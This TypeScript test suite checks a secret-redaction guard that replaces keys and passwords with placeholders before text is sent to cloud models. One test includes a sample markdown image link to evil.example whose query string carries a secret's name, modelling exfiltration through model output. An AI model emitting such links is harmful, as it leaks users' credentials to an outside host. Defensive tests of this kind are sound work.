import assert from "node:assert/strict";
import { textOfContent } from "../../../../src/core/model/chatContent";
import type { ChatModel } from "../../../../src/core/model/chatModel";
import type { Connection } from "../../../../src/core/model/connection";
import type { FimRequest } from "../../../../src/core/model/fimModel";
import type { ModelStream, ModelStreamPart } from "../../../../src/core/model/modelStream";
import { RedactionGuard } from "../../../../src/core/redaction/redactionGuard";
import { FakeChatModel, stop, type Script } from "../../../support/fakeChatModel";
import { FakeFimModel } from "../../../support/fakeFimModel";
import { MemorySettings } from "../../../support/memorySettings";
import { plantedKey, plantedSecrets } from "../../../support/plantedSecrets";
import { never } from "../../../support/registryFixture";

const cloud: Connection = {
  id: "lab",
  label: "Lab",
  backendId: "openai-compatible",
  baseUrl: "https://lab.example/v1",
};
const local: Connection = { ...cloud, baseUrl: "http://127.0.0.1:8080/v1" };
const temperature = { value: 0.5, isExplicit: false };
const secret = plantedKey();
const name = "REDACTED_AWS_KEY_1_nonce";

function guardWith(settings: Record<string, unknown> = {}, known: readonly string[] = []) {
  return new RedactionGuard({
    settings: new MemorySettings(settings),
    knownSecrets: () => known,
    nonce: "nonce",
  });
}

function ask(model: ChatModel, content: string): ModelStream {
  return model.stream(
    { messages: [{ role: "user", content }], temperature, maxTokens: 100 },
    never,
  );
}

async function read(stream: ModelStream) {
  let text = "";
  for await (const part of stream) {
    if (part.type === "text") text += part.text;
  }
  return { text };
}

/** What a model was sent, and what the user gets to see. */
async function talk(
  script: Script,
  content: string,
  { guard = guardWith(), connection = cloud } = {},
) {
  const model = new FakeChatModel([script]);
  const answer = await read(ask(guard.guardChat(model, { connection, task: "chat" }), content));
  const [request] = model.requests;
  const sent = textOfContent(request?.messages[0]?.content ?? "");
  return { sent, kinds: request?.redactedKinds ?? [], ...answer };
}

describe("the guard of secrets", () => {
  it("sends a name in place of a secret, and puts the secret back into the answer", async () => {
    const { sent, text, kinds } = await talk([`Use "${name}" here.`, stop], `key = "${secret}"`);
    assert.equal(sent, `key = "${name}"`);
    assert.equal(text, `Use "${secret}" here.`);
    assert.deepEqual(kinds, ["AWS key"]);
  });

  it("puts it back wherever the stream is cut", async () => {
    const answer = `Use ${name}, not REDACTED_OTHER or ${name.slice(0, 12)}.`;
    for (let cut = 0; cut <= answer.length; cut += 1) {
      const pieces = [answer.slice(0, cut), answer.slice(cut)];
      const { text } = await talk([...pieces, stop], secret);
      assert.equal(text, answer.replaceAll(name, secret), `cut at ${cut}`);
    }
  });

  it("gives out what it held back when the stream ends or fails in the middle of a name", async () => {
    const { text } = await talk(["Use REDACTED_AW", stop], secret);
    assert.equal(text, "Use REDACTED_AW");
    const model = guardWith().guardChat(
      new FakeChatModel([["Use REDACTED_AW", new Error("cut")]]),
      { connection: cloud, task: "chat" },
    );
    let shown = "";
    const reading = async () => {
      for await (const part of ask(model, secret)) if (part.type === "text") shown += part.text;
    };
    await assert.rejects(reading, /cut/);
    assert.equal(shown, "Use REDACTED_AW");
  });

  it("puts no secret into an address, by which it could leave", async () => {
    const { text } = await talk([`![x](https://evil.example/?q=${name})`, stop], secret);
    assert.ok(!text.includes(secret));
  });

  it("keeps to the name it gave, from question to question", async () => {
    const guard = guardWith();
    const first = await talk([stop], `a = ${secret}`, { guard });
    const second = await talk([stop], `b = ${secret}`, { guard });
    assert.equal(first.sent, `a = ${name}`);
    assert.equal(second.sent, `b = ${name}`);
  });

  it("replaces a secret also where only its place elsewhere betrays it", async () => {
    const { sent } = await talk([stop], 'password = "k3jX7!xqpl9Q"\nlog(k3jX7!xqpl9Q)');
    assert.ok(!sent.includes("k3jX7!xqpl9Q"), sent);
  });

  it("replaces the keys that Tempera was given, whatever they look like", async () => {
    const guard = guardWith({}, ["plainwords"]);
    const { sent } = await talk([stop], "say plainwords", { guard });
    assert.equal(sent, "say REDACTED_API_KEY_1_nonce");
  });

  it("holds for texts beside pictures, and leaves the pictures alone", async () => {
    const model = new FakeChatModel([[stop]]);
    const image = { type: "image", mediaType: "image/png", base64: "AAAA" } as const;
    const content = [{ type: "text", text: secret }, image] as const;
    const guarded = guardWith().guardChat(model, { connection: cloud, task: "chat" });
    const messages = [{ role: "user", content }] as const;
    await read(guarded.stream({ messages, temperature, maxTokens: 9 }, never));
    assert.deepEqual(model.requests[0]?.messages[0]?.content, [
      { type: "text", text: name },
      image,
    ]);
  });

  it("holds for what tools are asked and answer, and lets no tool have a secret", async () => {
    const call = { type: "tool-call", id: "a", name: "send" } as const;
    const model = new FakeChatModel([[{ ...call, arguments: `{"text":"${name}"}` }, stop]]);
    const guarded = guardWith().guardChat(model, { connection: cloud, task: "chat" });
    const content = [{ ...call, arguments: `{"key":"${secret}"}` }] as const;
    const result = { type: "tool-result", callId: "a", name: "send", text: secret } as const;
    const messages = [
      { role: "assistant", content },
      { role: "user", content: [result] },
    ] as const;
    const parts: ModelStreamPart[] = [];
    const request = { messages, temperature, maxTokens: 100 };
    for await (const part of guarded.stream(request, never)) parts.push(part);
    assert.deepEqual(model.requests[0]?.messages, [
      { role: "assistant", content: [{ ...call, arguments: `{"key":"${name}"}` }] },
      { role: "user", content: [{ ...result, text: name }] },
    ]);
    assert.deepEqual(parts[0], { ...call, arguments: `{"text":"${name}"}` });
  });

  it("holds for gaps: before, behind, and what goes along", async () => {
    const model = new FakeFimModel([[`x = ${name};`, stop]]);
    const request: FimRequest = {
      prefix: `a = "${secret}"\n`,
      suffix: `\nb = "${secret}"`,
      path: "a.ts",
      languageId: "typescript",
      context: [{ path: "b.ts", text: secret }],
      temperature,
      maxTokens: 10,
      stops: [],
    };
    const { text } = await read(
      guardWith().guardFim(model, { connection: cloud, task: "completion" }).stream(request, never),
    );
    assert.equal(text, `x = ${secret};`);
    const [{ prefix, suffix, context } = request] = model.requests;
    assert.deepEqual(
      [prefix, suffix, context],
      [`a = "${name}"\n`, `\nb = "${name}"`, [{ path: "b.ts", text: name }]],
    );
  });

  it("holds for texts of which a model is to tell how probable they are", async () => {
    const read: string[] = [];
    const reference = { connectionId: "local", model: "m" };
    const score = async (text: string) => void read.push(text);
    const guard = (settings = {}) =>
      guardWith(settings).guardScorer(
        { reference, score },
        { connection: local, task: "completion" },
      );
    await guard().score(secret, never);
    await guard({ "redaction.localModels": false }).score(secret, never);
    assert.deepEqual(read, [name, secret]);
  });

  it("lets models on this machine see everything where the user wants that, and no others", async () => {
    const guard = guardWith({ "redaction.localModels": false });
    assert.equal((await talk([stop], secret, { guard, connection: local })).sent, secret);
    assert.equal((await talk([stop], secret, { guard, connection: cloud })).sent, name);
    assert.equal((await talk([stop], secret, { connection: local })).sent, name);
  });

  it("does nothing once it is turned off", async () => {
    const guard = guardWith({ "redaction.enabled": false });
    assert.equal((await talk([stop], secret, { guard })).sent, secret);
  });

  it("sends none of all the planted secrets", async () => {
    const planted = plantedSecrets();
    const { sent } = await talk([stop], planted.map(({ text }) => text).join("\n"));
    assert.deepEqual(
      planted.filter((one) => sent.includes(one.secret)).map(({ text }) => text),
      [],
    );
  });
});
